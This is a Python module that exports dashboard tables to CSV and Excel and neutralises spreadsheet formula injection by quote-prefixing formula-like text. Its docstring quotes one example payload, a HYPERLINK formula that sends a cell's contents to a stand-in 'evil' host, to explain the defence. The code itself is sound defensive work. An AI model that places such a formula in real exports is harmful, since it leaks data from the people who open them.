"""Tables out of the dashboard: CSV (UTF-8 with BOM, so Excel shows Chinese) and Excel.

Kept apart from the analysis code (as geopandas keeps io apart): callers hand
over a DataFrame, or several as named sheets, and get bytes to download.
Every table the product exports goes through here (tickets, indicators,
coverage), because every cell may hold what a resident or an uploaded file
wrote.

Formula injection (OWASP "CSV injection"): a text cell starting with
``= + - @``, a tab or a carriage return is a formula to Excel, LibreOffice and
Google Sheets: ``=HYPERLINK("http://evil/?"&A1, "点我")`` in a ticket
description would run in the office that opens the export. Such text is
neutralised the way OWASP says: in CSV it is prefixed with a single quote;
in Excel it is stored as a text cell with Excel's own quote prefix (the
apostrophe Excel adds when a person types ``'=…``), so it reads exactly as
written and never becomes a formula, also after editing. Numbers stay
numbers: only text is touched, and text that is just a number (``-3.5``,
``12.0%``) cannot be a formula and is left alone.
"""
from __future__ import annotations

import csv
import io
import re
from typing import Any

import pandas as pd

#: First characters that make a spreadsheet cell a formula (OWASP CSV injection).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d{1,3}(,\d{3})+|\d+)(\.\d+)?%?")


def is_formula_like(value: Any) -> bool:
    """True for text a spreadsheet would read as a formula (leading spaces do not hide one)."""
    if not isinstance(value, str) or not value:
        return False
    first = value[0] if value[0] in FORMULA_START else value.lstrip()[:1]
    return first in FORMULA_START and not _NUMBER.fullmatch(value.strip())


def neutralise(value: Any) -> Any:
    """``'`` + text for formula-like text (the CSV rule); anything else unchanged."""
    return "'" + value if is_formula_like(value) else value


def _plain(df: pd.DataFrame) -> pd.DataFrame:
    """Drop geometry and make times naive so every writer takes the frame."""
    out = pd.DataFrame(df).drop(columns=[c for c in ("geometry", "geom") if c in df.columns])
    for col in out.columns:
        if isinstance(out[col].dtype, pd.DatetimeTZDtype):
            out[col] = out[col].dt.tz_localize(None)
    return out


def _neutralised(df: pd.DataFrame) -> pd.DataFrame:
    """The frame with every formula-like text cell (and header) prefixed; number columns untouched."""
    out = df.copy()
    for col in out.columns:
        if pd.api.types.is_object_dtype(out[col]) or pd.api.types.is_string_dtype(out[col]):
            out[col] = out[col].map(neutralise)
    out.columns = [neutralise(c) for c in out.columns]
    return out


def csv_bytes(df: pd.DataFrame) -> bytes:
    """CSV with a byte-order mark (Excel on Windows opens Chinese text correctly), formulas neutralised.

    Every text field is quoted (OWASP's second half of the rule): a carriage return inside a
    description stays inside its field instead of starting a new row in Excel.
    """
    return _neutralised(_plain(df)).to_csv(index=False, quoting=csv.QUOTE_NONNUMERIC).encode("utf-8-sig")


def excel_bytes(sheets: dict[str, pd.DataFrame] | pd.DataFrame) -> bytes:
    """An .xlsx workbook, one sheet per entry (sheet names cut to Excel's 31 characters), formulas neutralised."""
    if isinstance(sheets, pd.DataFrame):
        sheets = {"Sheet1": sheets}
    buf = io.BytesIO()
    with pd.ExcelWriter(buf, engine="openpyxl") as writer:
        for name, df in sheets.items():
            _plain(df).to_excel(writer, sheet_name=name[:31], index=False)
            _text_cells(writer.sheets[name[:31]])
    return buf.getvalue()


def _text_cells(ws) -> None:
    """Formula-like text as text cells with Excel's quote prefix (openpyxl made ``=…`` a formula)."""
    for row in ws.iter_rows():
        for cell in row:
            if cell.data_type in ("s", "f") and is_formula_like(cell.value):
                cell.data_type = "s"
                cell.quotePrefix = True
